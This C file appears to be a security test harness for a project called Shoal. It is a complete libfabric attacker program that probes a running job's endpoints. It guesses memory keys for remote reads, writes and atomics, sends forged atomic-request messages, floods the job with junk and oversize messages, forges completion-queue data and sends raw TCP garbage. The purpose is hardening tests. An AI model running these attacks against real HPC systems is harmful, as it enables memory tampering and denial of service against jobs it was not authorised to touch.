/* ofi_attacker.c - a stranger attacks a running job's libfabric endpoints (tests/scripts/ofi_attack.py). A plain
 * libfabric program: no Shoal, only what anybody on the network can do.
 *
 *   ofi_attacker PROV IP NPES HEAP_OFF STATIC_OFF PORT...
 *
 * PROV: the provider name given to fi_getinfo (net, or tcp for tcp;ofi_rxm); the interface comes from FI_NET_IFACE /
 * FI_TCP_IFACE as for the job. IP: the victims' address. NPES: the job's size (forged requests name each PE).
 * HEAP_OFF, STATIC_OFF: offsets (hex or decimal) of the victim's buffers in its heap and static data regions (the
 * layout is no secret: only the memory key may protect them). PORT: each victim PE's listening TCP port.
 *
 * Against each port, every attempt bounded in time, one line per attempt class:
 *   read / write / atomic: fi_read, fi_write (a pattern), fi_atomic (FI_SUM of a large value on uint64) with keys
 *     0..16 and a few more, at offsets 0, 0x400000 and the hinted ones;
 *   forged: the fallback AMO request of today's runtime/transport_ofi.c (a 40-byte amo_msg_t: ADD of a large value
 *     at the hinted offset of the heap and of static data), naming each PE 0..NPES-1 as the requester;
 *   junk: messages of 1, 7, 39, 41, 64, 4096 and 65536 bytes, random or starting with a forged request;
 *   oversize: 80 messages of 41..1000 bytes (more than the 64 receive buffers a PE posts);
 *   flood: 5000 messages of 8 bytes (at most FLOOD_S seconds);
 *   senddata: 1100 messages with remote CQ data (fi_senddata: no key needed) whose data names a cell of the hinted
 *     heap and static buffers as put_signal's flags do (ofi.h CQS_*), with values that would change the cell; more
 *     than the 1024 receive buffers a PE posts, so a target that keeps such a buffer also stalls;
 *   raw: TCP connections to the port sending random bytes (not the libfabric protocol).
 * Lines: "ATTACK <class> port <p>: ok <n> err <n> timeout <n> refused <n>" ("ok" = a completion without error: for
 * read/write/atomic, memory reached; for the messages, only that the bytes were sent), and "HIT <class> port <p> key
 * <k> off <o>" for each successful read/write/atomic (the first few). Exit 0 unless it could not run (2). */
#include <arpa/inet.h>
#include <errno.h>
#include <inttypes.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <rdma/fabric.h>
#include <rdma/fi_atomic.h>
#include <rdma/fi_cm.h>
#include <rdma/fi_domain.h>
#include <rdma/fi_endpoint.h>
#include <rdma/fi_errno.h>
#include <rdma/fi_rma.h>

#define CLASS_S 3.0   /* s: every attempt of one class against one port must complete within this */
#define OP_S 0.3     /* s: one read, write or atomic waits this long for its completion */
#define FLOOD_S 2.0   /* s: the flood's own bound */
#define FLOOD_N 5000
#define OVERSIZE_N 80
#define SENDDATA_N 1100 /* more than a PE's 1024 receive buffers (runtime/transport/ofi/ofi.h NRECV) */
#define MAXOPS 65536 /* never reused: a late completion must find its own op */

/* The fallback wire format (runtime/transport_ofi.c): 40 bytes up to a4787a6, then 48 with the receiver's token
 * at the end. Both are sent: the old length, and the new one with guessed tokens (0, random). */
typedef struct amo_msg {
  uint8_t kind, op, size, space;
  int32_t pe;
  uint64_t off, operand, compare;
  uint64_t id;
  uint64_t token;
} amo_msg_t;
#define OLD_MSG_LEN 40
enum { MSG_REQ = 1, AMO_ADD = 6, SPACE_HEAP = 0, SPACE_STATIC = 2 };
#define EVIL 0x0000100000000000ull /* what forged ADDs add: a victim sees it in its pattern or its counters */

static struct fid_fabric *fab;
static struct fid_domain *dom;
static struct fid_av *av;
static struct fid_cq *cq;
static struct fi_info *info;
static struct sockaddr_in target; /* the port under attack */
static fi_addr_t cur;             /* its address in the AV */
static int eps_made;

typedef struct op {
  int state; /* 0 posted, 1 ok, 2 error */
  int err;   /* the error completion's */
  uint64_t key, off;
  char buf[64];
} op_t;
static op_t ops[MAXOPS];
static int nops;
static uint64_t rng = 0x243F6A8885A308D3ull;

static uint64_t rnd(void) {
  rng ^= rng << 13;
  rng ^= rng >> 7;
  rng ^= rng << 17;
  return rng;
}
static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec + t.tv_nsec / 1e9;
}

/* Per target port: an endpoint on a CQ and an AV holding the target, opened again (all three) after every attempt
 * that failed and before every message class: tcp;ofi_rxm keeps a connection that failed (a bad key) failed for good
 * (-FI_ENOTCONN at every later operation to that peer), so attempts on one endpoint would hide each other. (One
 * endpoint per attempt, all in flight at once, stalled both the attacker and the job on tcp;ofi_rxm.) */
static struct fid_ep *ep;
static void port_open(void) {
  struct fi_cq_attr ca = {.format = FI_CQ_FORMAT_CONTEXT, .wait_obj = FI_WAIT_NONE, .size = 16384};
  struct fi_av_attr aa = {.type = FI_AV_TABLE, .count = 4};
  int ret;
  if ((ret = fi_av_open(dom, &aa, &av, NULL)) || (ret = fi_cq_open(dom, &ca, &cq, NULL)) ||
      (ret = fi_endpoint(dom, info, &ep, NULL)) || (ret = fi_ep_bind(ep, &av->fid, 0)) ||
      (ret = fi_ep_bind(ep, &cq->fid, FI_TRANSMIT | FI_RECV)) || (ret = fi_enable(ep)))
    goto fail;
  if (fi_av_insert(av, &target, 1, &cur, 0, NULL) != 1) {
    ret = -FI_EINVAL;
    goto fail;
  }
  eps_made++;
  return;
fail:
  fprintf(stderr, "ofi_attacker: opening an endpoint: %s\n", fi_strerror(-ret));
  exit(2);
}
static void port_close(void) {
  fi_close(&ep->fid);
  fi_close(&cq->fid);
  fi_close(&av->fid);
}
static void ep_reset(void) {
  port_close();
  port_open();
}

/* Drain the CQ: mark each completed op (its context) ok or errored. */
static void poll_cq(void) {
  struct fi_cq_entry e[16];
  for (;;) {
    ssize_t n = fi_cq_read(cq, e, 16);
    if (n > 0) {
      for (ssize_t i = 0; i < n; i++)
        if (e[i].op_context) ((op_t *)e[i].op_context)->state = 1;
      continue;
    }
    if (n == -FI_EAVAIL) {
      struct fi_cq_err_entry ee = {0};
      if (fi_cq_readerr(cq, &ee, 0) > 0 && ee.op_context)
        ((op_t *)ee.op_context)->state = 2, ((op_t *)ee.op_context)->err = ee.err;
      continue;
    }
    return;
  }
}

static op_t *new_op(uint64_t key, uint64_t off) {
  if (nops == MAXOPS) { /* never reused: a late completion must not land in a live op */
    fprintf(stderr, "ofi_attacker: out of op slots\n");
    exit(2);
  }
  op_t *o = &ops[nops++];
  o->state = 0, o->key = key, o->off = off;
  return o;
}

/* Post with retries on -FI_EAGAIN until the deadline; returns 0 posted, else the error (counted as refused). */
#define POST(call, deadline)                                                                                           \
  ({                                                                                                                   \
    ssize_t r_;                                                                                                        \
    while ((r_ = (call)) == -FI_EAGAIN && now() < (deadline)) poll_cq();                                               \
    r_;                                                                                                                \
  })

typedef struct { int ok, err, timeout, refused; } tally_t;

/* Wait for ops [first, nops) until the deadline, then count them. */
static tally_t settle(int first, double deadline, tally_t t, const char *cls, int port) {
  for (;;) {
    poll_cq();
    int open = 0;
    for (int i = first; i < nops; i++) open += ops[i].state == 0;
    if (!open || now() >= deadline) break;
    struct timespec ts = {0, 200000};
    nanosleep(&ts, NULL);
  }
  int hits = 0;
  for (int i = first; i < nops; i++) {
    if (ops[i].state == 1) {
      t.ok++;
      if (cls && hits++ < 8) printf("HIT %s port %d key %#" PRIx64 " off %#" PRIx64 "\n", cls, port, ops[i].key,
                                    ops[i].off);
    } else if (ops[i].state == 2) {
      t.err++;
    } else {
      t.timeout++;
    }
  }
  return t;
}
static double t_start;
static void report(const char *cls, int port, tally_t t) {
  if (getenv("OFI_ATTACKER_VERBOSE")) printf("  (%.2f s)\n", now() - t_start);
  printf("ATTACK %s port %d: ok %d err %d timeout %d refused %d\n", cls, port, t.ok, t.err, t.timeout, t.refused);
  fflush(stdout);
}

/* Up to a4787a6 the keys were fixed (space + 1: heap 1, static data 3); the others stand for any guess (with
 * tcp;ofi_rxm each wrong one costs a new endpoint, so the list is short: a 64-bit random key is not guessed anyway). */
static const uint64_t keys[] = {0, 1, 2, 3, 4, ~0ull};
#define NKEYS (sizeof keys / sizeof keys[0])

enum { RMA_READ, RMA_WRITE, RMA_ATOMIC };
static void rma_class(int kind, int port, const uint64_t *offs, int noffs) {
  static const char *names[] = {"read", "write", "atomic"};
  int n = (int)NKEYS * noffs, first = nops;
  double deadline = now() + CLASS_S;
  tally_t t = {0};
  for (int i = 0; i < n; i++) {
    op_t *o = new_op(keys[i / noffs], offs[i % noffs]);
    if (now() >= deadline) { /* the class ran out of time: not tried */
      o->state = 3, o->err = FI_ETIMEDOUT, t.refused++;
      continue;
    }
    memcpy(o->buf, &(uint64_t){EVIL}, 8);
    /* Writes and atomics ask for delivery complete: a completion then says the target took them (on tcp a plain
     * write completes when its bytes are in the socket). */
    struct iovec iov = {kind == RMA_WRITE ? (void *)"PWNED!!!" : o->buf, 8};
    struct fi_rma_iov riov = {o->off, 8, o->key};
    struct fi_msg_rma wm = {.msg_iov = &iov, .iov_count = 1, .addr = cur, .rma_iov = &riov, .rma_iov_count = 1,
                            .context = o};
    struct fi_ioc ioc = {o->buf, 1};
    struct fi_rma_ioc rioc = {o->off, 1, o->key};
    struct fi_msg_atomic am = {.msg_iov = &ioc, .iov_count = 1, .addr = cur, .rma_iov = &rioc, .rma_iov_count = 1,
                               .datatype = FI_UINT64, .op = FI_SUM, .context = o};
    double until = now() + OP_S < deadline ? now() + OP_S : deadline;
    ssize_t r = kind == RMA_READ    ? POST(fi_read(ep, o->buf, 8, NULL, cur, o->off, o->key, o), until)
                : kind == RMA_WRITE ? POST(fi_writemsg(ep, &wm, FI_COMPLETION | FI_DELIVERY_COMPLETE), until)
                                    : POST(fi_atomicmsg(ep, &am, FI_COMPLETION | FI_DELIVERY_COMPLETE), until);
    if (r) {
      o->state = 3, o->err = (int)-r, t.refused++; /* not posted: never completes */
    } else {
      while (o->state == 0 && now() < until) poll_cq();
    }
    if (getenv("OFI_ATTACKER_VERBOSE"))
      printf("  %s key %#" PRIx64 " off %#" PRIx64 ": %s%s\n", names[kind], o->key, o->off,
             o->state == 3 ? "not posted: " : "",
             o->state == 1 ? "ok" : o->state == 0 ? "pending" : fi_strerror(o->err));
    if (o->state != 1) {
      if (o->state == 0) o->state = 4; /* timed out: its endpoint goes, it never completes */
      ep_reset();
    }
  }
  tally_t s = settle(first, deadline, t, names[kind], port);
  for (int i = first; i < nops; i++) s.timeout -= ops[i].state == 3; /* settle counted them: they are refused */
  report(names[kind], port, s);
}

/* Messages: each fi_send's completion counts (ok = sent, which says nothing of what the target did with it); with
 * data, fi_senddata carrying data[i] as remote CQ data. */
static void send_class_data(const char *cls, int port, const void *const *bufs, const size_t *lens,
                            const uint64_t *data, int n, double bound) {
  ep_reset(); /* a connection of its own: what the classes before did to theirs must not hide this one */
  double deadline = now() + bound;
  int first = nops;
  tally_t t = {0};
  for (int i = 0; i < n && now() < deadline; i++) {
    op_t *o = new_op(0, lens[i]);
    if (POST(data ? fi_senddata(ep, bufs[i], lens[i], NULL, data[i], cur, o) : fi_send(ep, bufs[i], lens[i], NULL, cur, o),
             deadline)) {
      o->state = 3;
      t.refused++;
    }
  }
  tally_t s = settle(first, deadline + 1.0, t, NULL, port);
  for (int i = first; i < nops; i++) s.timeout -= ops[i].state == 3;
  report(cls, port, s);
}
static void send_class(const char *cls, int port, const void *const *bufs, const size_t *lens, int n,
                       double bound) {
  send_class_data(cls, port, bufs, lens, NULL, n, bound);
}

static amo_msg_t forged(int space, int pe, uint64_t off) {
  return (amo_msg_t){.kind = MSG_REQ, .op = AMO_ADD, .size = 8, .space = (uint8_t)space, .pe = pe, .off = off,
                     .operand = EVIL, .compare = 0, .id = 0xff /* slot 255: no waiter, the answer is dropped */};
}

static void raw_tcp(const char *ip, int port) {
  int ok = 0, err = 0;
  static unsigned char junk[65536];
  for (size_t i = 0; i < sizeof junk; i++) junk[i] = (unsigned char)rnd();
  static const size_t sizes[] = {0, 1, 64, 4096, 65536};
  for (size_t s = 0; s < sizeof sizes / sizeof sizes[0]; s++) {
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    inet_pton(AF_INET, ip, &sa.sin_addr);
    struct timeval tv = {1, 0};
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
    if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof sa)) {
      err++;
    } else {
      size_t done = 0;
      while (done < sizes[s]) {
        ssize_t w = send(fd, junk + done, sizes[s] - done, MSG_NOSIGNAL);
        if (w <= 0) break;
        done += (size_t)w;
      }
      if (done == sizes[s]) ok++;
      else err++;
      struct timespec ts = {0, 50000000}; /* give the provider time to read it before the close */
      nanosleep(&ts, NULL);
    }
    if (fd >= 0) close(fd);
  }
  printf("ATTACK raw port %d: ok %d err %d timeout 0 refused 0\n", port, ok, err);
  fflush(stdout);
}

static uint64_t num(const char *s) { return strtoull(s, NULL, 0); }

int main(int argc, char **argv) {
  if (argc < 7) {
    fprintf(stderr, "usage: ofi_attacker PROV IP NPES HEAP_OFF STATIC_OFF PORT...\n");
    return 2;
  }
  const char *prov = argv[1], *ip = argv[2];
  int npes = atoi(argv[3]);
  uint64_t heap_off = num(argv[4]), static_off = num(argv[5]);
  int nports = argc - 6;
  setvbuf(stdout, NULL, _IOLBF, 0);
  t_start = now();
  setenv("FI_OFI_RXM_BUFFER_SIZE", "2048", 0); /* as Shoal's PEs set it: rxm refuses a peer of another size */

  struct fi_info *h = fi_allocinfo();
  h->fabric_attr->prov_name = strdup(prov);
  h->ep_attr->type = FI_EP_RDM;
  h->caps = FI_RMA | FI_ATOMIC | FI_MSG;
  h->addr_format = FI_SOCKADDR_IN;
  h->mode = 0;
  h->domain_attr->mr_mode = FI_MR_VIRT_ADDR | FI_MR_ALLOCATED | FI_MR_PROV_KEY | FI_MR_ENDPOINT;
  int ret = fi_getinfo(FI_VERSION(1, 10), NULL, NULL, 0, h, &info);
  if (ret) {
    fprintf(stderr, "ofi_attacker: fi_getinfo(%s): %s\n", prov, fi_strerror(-ret));
    return 2;
  }
  printf("attacker: provider %s, domain %s, mr_mode %#x\n", info->fabric_attr->prov_name, info->domain_attr->name,
         info->domain_attr->mr_mode);
  if ((ret = fi_fabric(info->fabric_attr, &fab, NULL)) || (ret = fi_domain(fab, info, &dom, NULL))) {
    fprintf(stderr, "ofi_attacker: opening the domain: %s\n", fi_strerror(-ret));
    return 2;
  }

  uint64_t cand[] = {0, 0x400000, heap_off, static_off}, offs[4];
  int noffs = 0;
  for (int i = 0; i < 4; i++) { /* each once */
    int dup = 0;
    for (int j = 0; j < noffs; j++) dup |= offs[j] == cand[i];
    if (!dup) offs[noffs++] = cand[i];
  }
  for (int pi = 0; pi < nports; pi++) {
    int port = atoi(argv[6 + pi]);
    target = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    if (inet_pton(AF_INET, ip, &target.sin_addr) != 1) {
      fprintf(stderr, "ofi_attacker: bad address %s\n", ip);
      return 2;
    }
    port_open();
    printf("attacker: target %s:%d (at %.2f s)\n", ip, port, now() - t_start);
    rma_class(RMA_READ, port, offs, noffs);
    rma_class(RMA_WRITE, port, offs, noffs);
    rma_class(RMA_ATOMIC, port, offs, noffs);

    /* Forged fallback requests: heap and static, each PE named as the requester. */
    static amo_msg_t fm[6 * 64];
    const void *bufs[6 * 64];
    size_t lens[6 * 64];
    int n = 0;
    for (int p = 0; p < npes && p < 64; p++)
      for (int v = 0; v < 3; v++) {
        fm[n] = forged(SPACE_HEAP, p, heap_off), fm[n].token = v == 2 ? rnd() : 0;
        bufs[n] = &fm[n], lens[n] = v ? sizeof(amo_msg_t) : OLD_MSG_LEN, n++;
        fm[n] = forged(SPACE_STATIC, p, static_off), fm[n].token = v == 2 ? rnd() : 0;
        bufs[n] = &fm[n], lens[n] = v ? sizeof(amo_msg_t) : OLD_MSG_LEN, n++;
      }
    send_class("forged", port, bufs, lens, n, CLASS_S);

    /* Junk of every size class: random bytes, and the same sizes starting with a forged request (the target must
     * look at the length, and never at bytes left from an earlier message). */
    static unsigned char jbuf[2][65536];
    for (int v = 0; v < 2; v++)
      for (size_t i = 0; i < sizeof jbuf[v]; i++) jbuf[v][i] = (unsigned char)rnd();
    amo_msg_t f = forged(SPACE_HEAP, 0, heap_off);
    memcpy(jbuf[1], &f, OLD_MSG_LEN);
    static const size_t jsz[] = {1, 7, 39, 41, 64, 4096, 65536};
    n = 0;
    for (int v = 0; v < 2; v++)
      for (size_t i = 0; i < sizeof jsz / sizeof jsz[0]; i++) bufs[n] = jbuf[v], lens[n] = jsz[i], n++;
    send_class("junk", port, bufs, lens, n, CLASS_S);

    /* More oversize messages than the target has receive buffers. */
    static const void *obufs[OVERSIZE_N];
    static size_t olens[OVERSIZE_N];
    for (int i = 0; i < OVERSIZE_N; i++) obufs[i] = jbuf[i % 2], olens[i] = 41 + (size_t)(i * 12) % 960;
    send_class("oversize", port, obufs, olens, OVERSIZE_N, CLASS_S);

    /* The flood: small messages, as many as go in FLOOD_S (at most FLOOD_N). */
    static const void *fbufs[FLOOD_N];
    static size_t flens[FLOOD_N];
    for (int i = 0; i < FLOOD_N; i++) fbufs[i] = jbuf[0] + 8 * (i % 1024), flens[i] = 8;
    send_class("flood", port, fbufs, flens, FLOOD_N, FLOOD_S);

    /* Remote CQ data on plain messages (put_signal's format, runtime/transport/ofi/ofi.h: bits 63-62 the space,
     * 61-40 the cell's index, 39-0 the value's low bits), naming the first 8 cells of the hinted heap and static
     * buffers, each with values up and down from anything there (the target keeps the larger): only a remote write,
     * which needs the key, may set a flag. */
    static uint64_t sdata[SENDDATA_N];
    for (int i = 0; i < SENDDATA_N; i++) {
      const uint64_t sp = i % 2 ? SPACE_STATIC : SPACE_HEAP, o = (i % 2 ? static_off : heap_off) / 8 + (i / 2) % 8;
      sdata[i] = sp << 62 | (o & ((1ull << 22) - 1)) << 40 | (rnd() & ((1ull << 40) - 1));
      fbufs[i] = jbuf[0], flens[i] = 8;
    }
    send_class_data("senddata", port, fbufs, flens, sdata, SENDDATA_N, CLASS_S);
    port_close();
  }
  /* Raw bytes last: a provider that dies of them must not hide what the libfabric attempts did. */
  for (int pi = 0; pi < nports; pi++) raw_tcp(ip, atoi(argv[6 + pi]));
  printf("attacker: done (%d endpoints)\n", eps_made);
  fflush(stdout);
  _exit(0); /* no fi_close: a provider stuck on a dead peer must not hold the attacker */
}
